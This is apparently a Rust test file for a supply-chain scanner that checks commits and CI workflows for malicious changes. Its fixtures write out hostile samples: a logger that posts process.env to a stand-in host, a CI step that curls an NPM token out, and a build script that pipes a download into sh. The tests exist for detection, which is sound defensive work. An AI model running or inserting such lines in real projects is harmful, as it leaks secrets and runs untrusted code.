//! `vetch diff main..HEAD`: the project's own source, and what its CI runs.

use serde_json::Value;

use crate::diff::Repository;

const MANIFEST: &str =
    r#"{"name": "shop", "version": "1.0.0", "private": true, "scripts": {"start": "node src/server.js"}}"#;

const SERVER: &str = "\
const { log } = require('./log');
require('http').createServer((req, res) => { log(req.url); res.end('ok'); }).listen(3000);
";

const STEALING: &str = "\
exports.log = (line) => console.log(line);
const all = JSON.stringify(process.env);
require('https').request({ host: 'log.collect.invalid', method: 'POST' }).end(all);
";

const WORKFLOW: &str = "\
on: [push]
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: npm ci
";

/// A small application on `main`, and a branch to change it on.
fn application() -> Option<Repository> {
    let repository = Repository::new()?;
    repository.commit("package.json", MANIFEST);
    repository.commit("src/server.js", SERVER);
    repository.commit("src/log.js", "exports.log = (line) => console.log(line);\n");
    repository.commit("tools/build.py", "import subprocess\nsubprocess.check_call(['make'])\n");
    repository.commit(".github/workflows/ci.yml", WORKFLOW);
    repository.git(&["switch", "--quiet", "--create", "topic"]);
    Some(repository)
}

/// Verdict and name of every part that changed.
fn parts(json: &Value) -> Vec<String> {
    let parts = json["own_source"].as_array().unwrap();
    let shown = |part: &Value| {
        let release = &part["release"];
        format!("{} {}", release["verdict"].as_str().unwrap(), release["purl"].as_str().unwrap())
    };
    parts.iter().map(shown).collect()
}

/// `rule file:line` of the evidence of what speaks against a part.
fn evidence(json: &Value, part: usize) -> Vec<String> {
    let findings = json["own_source"][part]["release"]["findings"].as_array().unwrap();
    let of = |finding: &Value| {
        let evidence = finding["evidence"].as_array().unwrap().clone();
        let rule = finding["rule"].as_str().unwrap().to_owned();
        evidence.into_iter().map(move |one| format!("{rule} {}:{}", one["file"].as_str().unwrap(), one["line"]))
    };
    findings.iter().flat_map(of).collect()
}

#[test]
fn a_malicious_contribution_shows() {
    let Some(repository) = application() else { return };
    repository.commit("src/log.js", STEALING);
    let json = repository.json(&["main..HEAD", "--offline"], 1);
    assert_eq!(parts(&json), ["malicious pkg:generic/own%20JavaScript"]);
    let told = evidence(&json, 0);
    assert!(told.contains(&"environment-exfiltration src/log.js:3".to_owned()), "{told:?}");
    // Who does not want it can leave it out.
    let json = repository.json(&["main..HEAD", "--offline", "--no-source"], 0);
    assert!(json.get("own_source").is_none());
}

#[test]
fn what_was_there_before_is_not_told_again() {
    let Some(repository) = application() else { return };
    repository.commit("src/format.js", "exports.format = (line) => line.trim();\n");
    repository.commit("tools/build.py", "import subprocess\nsubprocess.check_call(['make', 'all'])\n");
    let json = repository.json(&["main..HEAD", "--offline"], 0);
    assert_eq!(parts(&json), ["clean pkg:generic/own%20JavaScript", "clean pkg:generic/own%20Python"]);
    assert_eq!(json["own_source"][1]["change"]["gained"].as_array().unwrap().len(), 0);
}

#[test]
fn what_is_wrong_already_counts_neither_for_verdict_nor_for_score() {
    let Some(repository) = Repository::new() else { return };
    repository.commit("package.json", MANIFEST);
    repository.commit("src/server.js", SERVER);
    repository.commit("src/log.js", STEALING);
    repository.git(&["switch", "--quiet", "--create", "topic"]);
    repository.commit("src/server.js", &format!("{SERVER}console.log('ready');\n"));
    let json = repository.json(&["main..HEAD", "--offline"], 0);
    let release = &json["own_source"][0]["release"];
    assert_eq!((&release["verdict"], &release["score"]), (&"clean".into(), &0.into()));
}

#[test]
fn what_ci_runs_is_looked_at() {
    let Some(repository) = application() else { return };
    let step = "      - name: report\n        run: |\n          curl -d \"${{ secrets.NPM_TOKEN }}\" https://ci.collect.invalid/x\n";
    let used = "      - uses: quick/cache@main\n";
    repository.commit(".github/workflows/ci.yml", &format!("{WORKFLOW}{used}{step}"));
    let json = repository.json(&["main..HEAD", "--offline"], 1);
    assert_eq!(parts(&json), ["suspicious pkg:generic/CI%20workflows"]);
    let told = evidence(&json, 0);
    assert!(told.contains(&"credential-theft .github/workflows/ci.yml:11".to_owned()), "{told:?}");
    let added = &json["own_source"][0]["change"]["dependencies"];
    assert_eq!(added, &serde_json::json!([{"name": "quick/cache", "before": null, "now": "main"}]));
}

#[test]
fn what_is_not_committed_is_compared_too() {
    let Some(repository) = application() else { return };
    let folder = repository.folder();
    std::fs::write(folder.join("tools/build.py"), "import os\nos.system('curl http://192.0.2.7/a | sh')\n").unwrap();
    let json = repository.json(&["HEAD", "--offline"], 1);
    assert_eq!(parts(&json), ["malicious pkg:generic/own%20Python"]);
    let told = evidence(&json, 0);
    assert!(told.contains(&"download-and-execute tools/build.py:2".to_owned()), "{told:?}");
}
